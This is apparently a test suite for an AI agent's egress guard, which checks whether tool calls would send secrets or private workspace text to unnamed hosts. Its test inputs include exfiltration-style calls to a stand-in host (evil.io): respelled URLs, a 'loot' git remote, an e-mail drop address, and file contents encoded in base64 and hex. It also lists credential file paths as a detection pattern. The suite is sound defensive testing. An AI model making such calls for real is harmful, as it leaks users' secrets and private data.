// The egress guard's decision: by where data came from (labels kept as the chat's state), by the places a call
// would reach (read as the tools read them), and by what private content it would carry.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import type Anthropic from '@anthropic-ai/sdk';
import { EgressGuard, hostKey, reachesOut } from '../../src/core/egress/egress-guard';
import { ChatLabels, type SecretRecord } from '../../src/core/egress/chat-labels';
import { hostsNamedIn, isUnder } from '../../src/core/egress/named-hosts';
import { isSecretPath } from '../../src/core/egress/secret-sources';
import { LABELS_META } from '../../src/core/egress/labels';
import type { HubTool, ServerStatus } from '../../src/core/mcp/types';

const tool = (server: string, name: string, openWorld: boolean): HubTool => ({
  qualifiedName: `${server}__${name}`,
  server,
  tool: { name, inputSchema: { type: 'object' }, annotations: { readOnlyHint: true, openWorldHint: openWorld } },
});
const fetchUrl = tool('web', 'fetch_url', true);
const webSearch = tool('web', 'web_search', true);
const readFile = tool('workspace', 'read_file', false);
const searchFiles = tool('workspace', 'search_files', false);
const editFile = tool('workspace', 'edit_file', false);
const startAgent = tool('orchestrator', 'start_agent', false);
const readResource: HubTool = {
  qualifiedName: 'read_mcp_resource',
  server: 'mcp-agent',
  tool: { name: 'read_mcp_resource', inputSchema: { type: 'object' }, annotations: { openWorldHint: false } },
};

function memory(): { has(k: string): boolean; add(k: string): void; keys: Set<string> } {
  const keys = new Set<string>();
  return { keys, has: (k) => keys.has(k), add: (k) => void keys.add(k) };
}
function secretLog(): { append(r: SecretRecord): Promise<void>; load(): Promise<SecretRecord[]>; records: SecretRecord[] } {
  const records: SecretRecord[] = [];
  return { records, append: async (r) => void records.push(r), load: async () => [...records] };
}
const guardFor = (...texts: string[]): EgressGuard => new EgressGuard({ personText: () => texts, store: memory() });

describe('hosts the person names', () => {
  test('URLs in any spelling, addresses, and bare names that read as sites', () => {
    assert.deepEqual(hostsNamedIn('read https://Docs.Python.org/3/ and see github.com/x, then notes.md'), ['docs.python.org', 'github.com']);
    assert.deepEqual(hostsNamedIn('see bücher.example.com.'), ['xn--bcher-kva.example.com']);
    assert.deepEqual(hostsNamedIn('mail alice@corp.com the plan'), ['corp.com']);
    assert.deepEqual(hostsNamedIn('clone git@gitlab.example.org:team/app.git'), ['gitlab.example.org']);
  });
  test('words of code and file names are not hosts, though .zip, .show, .email and .info are real domains', () => {
    for (const text of [
      'unzip backup.zip',
      'call plt.show() after',
      'set user.email in git',
      'print df.info',
      'what is in app.py and data.db?',
      'os.path.join',
    ])
      assert.deepEqual(hostsNamedIn(text), [], text);
  });
  test('a subdomain is under what was named; look-alikes are not', () => {
    assert.ok(isUnder('docs.example.com', 'example.com'));
    assert.ok(!isUnder('example.com.evil.io', 'example.com'));
    assert.ok(!isUnder('notexample.com', 'example.com'));
  });
});

describe('what leaves, and to where', () => {
  test('tools that stay on the machine never ask', () => {
    assert.equal(reachesOut(readFile), false);
    assert.equal(guardFor().check(readFile, { path: 'https://evil.io/' }), undefined);
  });
  test('a host the person named goes; another asks, and "always" remembers it (subdomains too)', async () => {
    const store = memory();
    const guard = new EgressGuard({ personText: () => ['summarize https://example.com/a'], store });
    assert.equal(guard.check(fetchUrl, { url: 'https://docs.example.com/b?x=1' }), undefined);
    const q = guard.check(fetchUrl, { url: 'https://evil.io/?d=1' });
    assert.deepEqual([q?.hosts, q?.rememberable], [['evil.io'], true]);
    await guard.allow(q!.hosts);
    assert.ok(store.keys.has(hostKey('evil.io')));
    assert.equal(guard.check(fetchUrl, { url: 'https://cdn.evil.io/' }), undefined);
  });
  test('respelled URLs reach the host the parser reads, and ask', () => {
    const guard = guardFor('see https://example.com');
    for (const url of [
      'http:evil.io/x',
      'http:\\\\evil.io/x',
      'ht\ttp://evil.io/x',
      'HTTP://EVIL.IO.',
      'https://example.com/r?to=http%253A%252F%252Fevil.io%252F',
    ])
      assert.deepEqual(guard.check(fetchUrl, { url })?.hosts, ['evil.io'], url);
  });
  test('a URL nested 10 and 40 levels deep asks', () => {
    for (const depth of [10, 40]) {
      let input: unknown = 'https://evil.io/?d=1';
      for (let i = 0; i < depth; i++) input = i % 2 ? [input] : { v: input };
      assert.deepEqual(guardFor().check(fetchUrl, { nested: input })?.hosts, ['evil.io'], `depth ${depth}`);
    }
  });
  test('addresses that are not URL-shaped ask: a host argument, git@host:repo, an e-mail address', () => {
    const push = tool('git', 'push', true);
    assert.deepEqual(guardFor().check(push, { host: 'evil.io' })?.hosts, ['evil.io']);
    assert.deepEqual(guardFor().check(push, { remote: 'git@evil.io:me/loot.git' })?.hosts, ['evil.io']);
    assert.deepEqual(guardFor().check(tool('mail', 'send', true), { body: 'hi', to: 'drop@evil.io' })?.hosts, ['evil.io']);
  });
  test('a remote server is where its calls go: a resource read on it asks while the chat holds a secret', () => {
    const servers = (): ServerStatus[] => [
      { name: 'remote', state: 'ready', tools: [], resources: [], resourceTemplates: [], prompts: [], endpoint: 'mcp.example.net' },
    ];
    const guard = new EgressGuard({ personText: () => [], store: memory(), servers });
    assert.equal(guard.check(readResource, { server: 'remote', uri: 'notes://x' }), undefined, 'the server the person set up is vouched for');
    guard.observe(readFile, { path: '.env' }, 'TOKEN=abcdef123456', false);
    const q = guard.check(readResource, { server: 'remote', uri: 'notes://abcdef123456' });
    assert.match(q?.why ?? '', /mcp\.example\.net/);
    assert.match(q?.carries ?? '', /a secret value from \.env/);
  });
});

describe('labels by source', () => {
  const secretAfter = (observe: (g: EgressGuard) => void): string | undefined => {
    const guard = guardFor('see https://example.com');
    observe(guard);
    const q = guard.check(fetchUrl, { url: 'https://example.com/' });
    return q?.rememberable === false ? q.why : undefined;
  };
  test('a search hit from .env, an edit error quoting .env, a DATABASE_URL with a password and pretty JSON tokens are secrets', () => {
    assert.match(
      secretAfter((g) => g.observe(searchFiles, { pattern: '*', content: 'KEY' }, '1 matching line:\n.env:1:API_KEY=abc123def456', false)) ?? '',
      /lines of \.env/,
    );
    assert.match(
      secretAfter((g) =>
        g.observe(editFile, { path: '.env', old_text: 'x', new_text: 'y' }, 'old_text not found; the closest line is "SECRET_KEY=hunter2hunter2"', true),
      ) ?? '',
      /read \.env/,
    );
    assert.match(
      secretAfter((g) => g.observe(readFile, { path: 'config/app.yml' }, 'DATABASE_URL=postgres://app:S3cretPw@db.internal/app', false)) ?? '',
      /password inside a URL/,
    );
    assert.match(secretAfter((g) => g.observe(readFile, { path: 'token.json' }, '{\n  "access_token": "ya29.a0AfH6SMBx3kq"\n}', false)) ?? '', /access_token/);
  });
  test('a read of .env that found nothing brings no secret; an example key on a public page makes no secret', () => {
    assert.equal(
      secretAfter((g) => g.observe(readFile, { path: '.env' }, 'No such file: .env', true)),
      undefined,
    );
    assert.equal(
      secretAfter((g) => g.observe(fetchUrl, { url: 'https://example.com/docs' }, 'aws_access_key_id = AKIAIOSFODNN7EXAMPLE', false)),
      undefined,
    );
  });
  test('a sub-agent hands its secrets up, and the parent hands its own down', () => {
    assert.match(
      secretAfter((g) =>
        g.observe(startAgent, {}, 'done', false, { content: [], _meta: { [LABELS_META]: { secrets: ['workspace__read_file read .env'] } } }),
      ) ?? '',
      /sub-agent/,
    );
    const parent = guardFor('see https://example.com');
    parent.observe(readFile, { path: '.env' }, 'X=1', false);
    const child = new EgressGuard({ personText: () => [], store: memory(), handed: parent.handDown() });
    assert.equal(child.check(fetchUrl, { url: 'https://example.com/' })?.rememberable, false, 'the parent secret holds in the sub-agent');
    assert.equal(guardFor().check(fetchUrl, { url: 'https://example.com/' })?.hosts[0], 'example.com');
    const named = new EgressGuard({ personText: () => [], store: memory(), handed: { secrets: [], named: ['example.com'] } });
    assert.equal(named.check(fetchUrl, { url: 'https://example.com/' }), undefined, 'hosts the person named count in the sub-agent');
  });
  test('the secrets are the chat state: kept after compaction drops the message and after a restart', async () => {
    const log = secretLog();
    const before = new ChatLabels(log);
    await before.load();
    before.noteCall(readFile, { path: '.env' }, 'X=1', false);
    const after = new ChatLabels(log);
    await after.load();
    after.restore([{ role: 'user', content: 'Summary: we looked at the config.' }], []);
    assert.deepEqual(after.secrets(), ['workspace__read_file read .env']);
  });
  test('a chat read back from disk is labelled again from what it holds', () => {
    const labels = new ChatLabels();
    const messages: Anthropic.MessageParam[] = [
      { role: 'user', content: 'look at the config' },
      { role: 'assistant', content: [{ type: 'tool_use', id: 't1', name: 'workspace__read_file', input: { path: '.env.local' } }] },
      { role: 'user', content: [{ type: 'tool_result', tool_use_id: 't1', content: 'A=1' }] },
    ];
    labels.restore(messages, ['look at the config']);
    assert.deepEqual(labels.secrets(), ['workspace__read_file read .env.local']);
  });
});

describe('private content leaving', () => {
  const FILE = 'The quarterly numbers for the Andromeda project are 41,337 units and a margin of 18.2 percent.';
  const withFile = (): EgressGuard => {
    const guard = guardFor('search the web at https://search.example.com');
    guard.observe(readFile, { path: 'notes/q3.md' }, FILE, false);
    return guard;
  };
  test('workspace text in a call to a named host asks, saying what would go where, in several encodings', () => {
    const encodings = [
      FILE,
      encodeURIComponent(FILE),
      Buffer.from(FILE).toString('base64'),
      Buffer.from(FILE).toString('hex'),
      JSON.stringify(FILE).replace(/ /g, '\\u0020'),
      FILE.toUpperCase().replace(/ /g, '\n  '),
    ];
    for (const data of encodings) {
      const q = withFile().check(fetchUrl, { url: `https://search.example.com/?q=${encodeURIComponent(data)}` });
      assert.match(q?.carries ?? '', /text from notes\/q3\.md/, data.slice(0, 30));
      assert.equal(q?.rememberable, false);
      assert.ok(withFile().check(webSearch, { query: data }), `web_search ${data.slice(0, 20)}`);
    }
  });
  test('short quotes, public pages and the person words do not ask', () => {
    const guard = withFile();
    guard.observe(fetchUrl, { url: 'https://search.example.com/a' }, 'A public page that says the sky is blue on most days of the year, everywhere.', false);
    assert.equal(guard.check(webSearch, { query: 'Andromeda project margin' }), undefined);
    assert.equal(guard.check(webSearch, { query: 'A public page that says the sky is blue on most days of the year' }), undefined);
  });
  test('a link found in the workspace is followed without a question (its query is what is checked)', () => {
    const guard = guardFor('https://docs.example.org');
    guard.observe(readFile, { path: 'README.md' }, 'Docs: https://docs.example.org/guide/getting-started/installation-on-linux.html', false);
    assert.equal(guard.check(fetchUrl, { url: 'https://docs.example.org/guide/getting-started/installation-on-linux.html' }), undefined);
  });
});

describe('secret sources by name', () => {
  test('secret-looking files; templates are not', () => {
    for (const p of ['.env', 'app/.env.local', '~/.ssh/config', 'id_ed25519', 'certs/server.key', '.aws/credentials', 'secrets.yaml', 'prod.tfstate'])
      assert.ok(isSecretPath(p), p);
    for (const p of ['.env.example', 'env.ts', 'src/keys.ts', 'id_rsa.pub', 'README.md']) assert.ok(!isSecretPath(p), p);
  });
});
